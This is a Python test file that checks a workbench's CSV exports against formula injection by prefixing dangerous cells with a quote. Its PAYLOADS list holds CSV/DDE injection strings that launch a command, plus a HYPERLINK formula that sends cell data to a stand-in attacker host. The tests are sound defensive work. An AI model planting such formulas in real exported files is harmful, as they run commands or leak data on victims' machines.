"""CSV exports neutralise formula cells (OWASP CSV injection), in every CSV the workbench writes."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from workbench import compare, csv_safe, dashboard, datasets, report, runs
from workbench.jobs import runs as run_jobs

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _assert_neutral(data: bytes) -> None:
    for value in _cells(data):
        assert not (value[:1] in csv_safe.TRIGGERS and not csv_safe.PLAIN_NUMBER.fullmatch(value)), value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cell_gets_a_leading_quote(payload):
    assert csv_safe.cell(payload) == "'" + payload


def test_plain_text_and_numbers_are_left_alone():
    for value in ("hello", "-3", "+1.5e3", "-.5", "", "a=b", "'quoted", None, 5):
        assert csv_safe.cell(value) == value


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    data = datasets.to_csv_bytes(["q"], [{"q": "harmless\r=cmd|' /C calc'!A0"}])
    assert _cells(data) == ["q", "harmless\r=cmd|' /C calc'!A0"]  # quoted, so still one cell


def test_dataset_export_is_neutralised():
    rows = [{"question": p, "n": "-4"} for p in PAYLOADS] + [{"question": "fine", "n": "2"}]
    data = datasets.to_csv_bytes(["question", "n"], rows)
    _assert_neutral(data)
    cells = _cells(data)
    assert "'=cmd|' /C calc'!A0" in cells and "-4" in cells and "fine" in cells


def test_run_and_compare_exports_are_neutralised(fake_model):
    datasets.save_version("quiz", datasets.parse_pasted("id,question\n" + "".join(f"r{i},q{i}\n" for i in range(4))))
    run_ids = []
    for template in ("A {{question}}", "B {{question}}"):
        fake_model.queue(*PAYLOADS[:4])
        plan = runs.plan_from_config(
            {
                "prompts": [{"name": "ask", "template": template, "model": "fake/model"}],
                "dataset": "quiz",
                "models": ["fake/model"],
                "concurrency": 1,
            }
        )
        run_id = runs.create_run(plan)
        assert run_jobs.run_now(run_id) == "done"
        run_ids.append(run_id)
    exported = runs.export(run_ids[0], "csv")
    _assert_neutral(exported)
    assert "'=cmd|' /C calc'!A0" in _cells(exported)
    assert json.loads(runs.export(run_ids[0], "jsonl").splitlines()[0])["output"] in PAYLOADS  # JSON stays raw
    rows_csv = report.rows_csv(compare.compare(run_ids))
    _assert_neutral(rows_csv)
    assert any(c.startswith("'=") for c in _cells(rows_csv))


def test_dashboard_csv_is_neutralised():
    frame = pd.DataFrame({"prompt": ["=1+1", "ok"], "calls": [3, -1]})
    data = dashboard.to_csv(frame)
    _assert_neutral(data)
    assert _cells(data)[2:] == ["'=1+1", "3", "ok", "-1"]
